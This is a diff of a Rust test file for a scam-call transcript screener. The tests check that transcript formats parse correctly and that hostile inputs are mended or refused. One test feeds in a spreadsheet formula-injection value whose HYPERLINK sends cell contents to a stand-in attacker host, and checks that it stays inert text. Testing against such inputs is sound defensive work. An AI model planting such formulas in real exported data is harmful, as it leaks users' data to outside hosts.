@@ -1,13 +1,15 @@
 //! The reference folder: every sample is read as what it is, every hostile one is mended or refused
 //! with a place. Skipped with a notice where `SCAMSCREEN_REFERENCE` does not name the folder.
 
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
-use super::super::Format::{self, *};
-use super::{read, speakers};
-use crate::parse::ParseError;
-use crate::source::{Mended, Source};
-use crate::transcript::{Speaker, TimeRange};
+use scamscreen::parse::Format::{self, *};
+use scamscreen::parse::ParseError;
+use scamscreen::parse::rows::{self, Columns, Row, RowError, Rows};
+use scamscreen::source::{Mended, Source};
+use scamscreen::transcript::{Speaker, TimeRange};
+
+use super::{labels, read, speakers};
 
 fn folder() -> Option<PathBuf> {
     let folder = std::env::var_os("SCAMSCREEN_REFERENCE").map(|path| PathBuf::from(path).join("formats"));
@@ -15,6 +17,10 @@ fn folder() -> Option<PathBuf> {
         eprintln!("skipped: SCAMSCREEN_REFERENCE does not name the reference folder");
     }
     folder
+}
+
+fn bytes(folder: &Path, file: &str) -> Vec<u8> {
+    std::fs::read(folder.join(file)).unwrap()
 }
 
 const CALLER: &str = "<caller>";
@@ -32,15 +38,15 @@ fn show(speaker: &Speaker) -> &str {
 }
 
 /// File, reader, number of utterances, speakers, start of the last utterance in milliseconds.
-type Row = (&'static str, Format, usize, &'static [&'static str], Option<u64>);
+type Sample = (&'static str, Format, usize, &'static [&'static str], Option<u64>);
 
-const SAMPLES: &[Row] = &[
+const SAMPLES: &[Sample] = &[
     ("webvtt_spec.fr.scam.vtt", Webvtt, 4, &[CALLER, RECIPIENT], Some(13_600)),
     ("webvtt_entities.en.legit.vtt", Webvtt, 3, &["Dr. O'Neil & Sons", UNKNOWN], Some(3200)),
     ("zoom.en.scam.vtt", Webvtt, 5, &[CALLER, "Mary Smith (Guest)"], Some(16_300)),
     ("teams.it.scam.vtt", Webvtt, 6, &[CALLER, RECIPIENT], Some(9350)),
     ("whispercpp_diarize.en.scam.vtt", Webvtt, 5, &["Speaker0", "Speaker1"], Some(16_300)),
-    ("google_meet.en.legit.txt", GoogleMeet, 3, &["Agent", RECIPIENT], None),
+    ("google_meet.en.legit.txt", GoogleMeet, 3, &[CALLER, RECIPIENT], None),
     ("srt.fr.scam.srt", Srt, 4, &[CALLER, UNKNOWN], Some(13_600)),
     ("whisperx.en.scam.srt", Srt, 5, &["SPEAKER_00", "SPEAKER_01"], Some(16_300)),
     ("whispercpp_diarize.it.scam.srt", Srt, 3, &["speaker 0", "speaker 1"], Some(6700)),
@@ -113,7 +119,10 @@ fn what_stands_beside_the_speech_is_kept() {
     let deepgram = sample("deepgram.en.scam.json");
     assert_eq!(deepgram.transcript.utterances[1].text, "Oh no. What should I do?");
     let aws = sample("aws_transcribe_speakers.fr.scam.json");
-    assert_eq!(aws.transcript.utterances[3].text, "Ensuite un coursier passera chercher votre carte bancaire, coupée en deux.");
+    assert_eq!(
+        aws.transcript.utterances[3].text,
+        "Ensuite un coursier passera chercher votre carte bancaire, coupée en deux."
+    );
 }
 
 #[test]
@@ -149,10 +158,21 @@ fn every_hostile_sample_is_mended_or_refused_with_a_place() {
     assert_eq!(mended("whispercpp_lone_lead_byte.json"), [Mended::BadBytes]);
     assert_eq!(texts("wrong_types.json"), ["42", "x", "read me the code"]);
     assert_eq!(mended("wrong_types.json"), [Mended::WrongType, Mended::BadTime]);
-    let Err(ParseError::Json { line: 1, column, problem }) = sample("deep.json") else { panic!("deep JSON is refused") };
+    let Err(ParseError::Json { line: 1, column, problem }) = sample("deep.json") else {
+        panic!("deep JSON is refused")
+    };
     assert!(column <= 129 && problem.contains("128"), "{column} {problem}");
-    for evasion in ["ansi.en.txt", "bidi.en.txt", "combining.fr.txt", "homoglyph.en.txt", "html.txt", "leet_spaced.en.txt",
-        "nul_bytes.en.txt", "zalgo.en.txt", "zero_width.en.txt"] {
+    for evasion in [
+        "ansi.en.txt",
+        "bidi.en.txt",
+        "combining.fr.txt",
+        "homoglyph.en.txt",
+        "html.txt",
+        "leet_spaced.en.txt",
+        "nul_bytes.en.txt",
+        "zalgo.en.txt",
+        "zero_width.en.txt",
+    ] {
         let parsed = sample(evasion).unwrap();
         let text = Source { name: evasion.into(), bytes: bytes(evasion) }.text(None).unwrap().text;
         let (_, words) = text.split_once(':').unwrap();
@@ -160,4 +180,58 @@ fn every_hostile_sample_is_mended_or_refused_with_a_place() {
         assert_eq!(parsed.transcript.utterances[0].text, words.trim(), "{evasion}");
         assert_eq!(parsed.transcript.utterances[0].speaker, Speaker::Caller, "{evasion}");
     }
+}
+
+/// Reads a batch as the program does.
+fn rows(bytes: &[u8]) -> Vec<Result<Row, RowError>> {
+    let kind = rows::sniff(&bytes[..bytes.len().min(64 << 10)]).expect("a batch");
+    Rows::new(bytes, kind, &Columns::default(), None).unwrap().collect()
+}
+
+#[test]
+fn batches_are_read_row_by_row() {
+    let Some(folder) = folder() else { return };
+    for (file, turns, caller) in [
+        ("batch.csv", [5, 3, 4, 3, 3, 2], Some("+1 202-555-0143")),
+        ("batch_excel_fr.csv", [1; 6], None),
+        ("batch.jsonl", [5, 3, 4, 3, 3, 2], Some("+1 202-555-0143")),
+        ("batch_turns.jsonl", [5, 3, 4, 3, 3, 2], None),
+    ] {
+        let rows: Vec<_> = rows(&bytes(&folder, file)).into_iter().map(|row| row.unwrap()).collect();
+        let ids: Vec<_> = rows.iter().filter_map(|row| row.id.as_deref()).collect();
+        assert_eq!(ids, ["en-1", "en-2", "fr-1", "fr-2", "it-1", "it-2"], "{file}");
+        assert_eq!(rows[0].caller.as_deref(), caller, "{file}");
+        assert_eq!(rows[2].language, Some(scamscreen::language::Code::Fr), "{file}");
+        let counts: Vec<_> =
+            rows.iter().map(|row| row.parse(&labels(), None).unwrap().transcript.utterances.len()).collect();
+        assert_eq!(counts, turns, "{file}");
+    }
+}
+
+#[test]
+fn no_single_transcript_is_taken_for_a_batch() {
+    let Some(folder) = folder() else { return };
+    let samples = SAMPLES.iter().map(|row| row.0.to_owned());
+    let hostile =
+        ["dup_keys.json", "whisper_nan.json", "bom.json", "wrong_types.json", "deep.json", "html.txt", "ansi.en.txt"];
+    for file in samples.chain(hostile.map(|file| format!("hostile/{file}"))) {
+        assert_eq!(rows::sniff(&bytes(&folder, &file)), None, "{file}");
+    }
+}
+
+#[test]
+fn hostile_batches_lose_only_their_bad_rows() {
+    let Some(folder) = folder() else { return };
+    let formulas: Vec<_> = rows(&bytes(&folder, "hostile/formula.csv")).into_iter().map(|row| row.unwrap()).collect();
+    assert_eq!(formulas.len(), 6);
+    assert_eq!(formulas[0].extra["text"], "=HYPERLINK(\"http://evil.invalid?x=\"&A1,\"ok\")");
+    let ragged = rows(&bytes(&folder, "hostile/ragged.csv"));
+    let faults: Vec<_> = ragged.into_iter().map(|row| row.unwrap_err().to_string()).collect();
+    assert_eq!(
+        faults,
+        [
+            "line 2: 4 fields where the header has 2; a field with a separator in it needs quotes",
+            "line 3: a quote is opened and never closed",
+        ]
+    );
 }
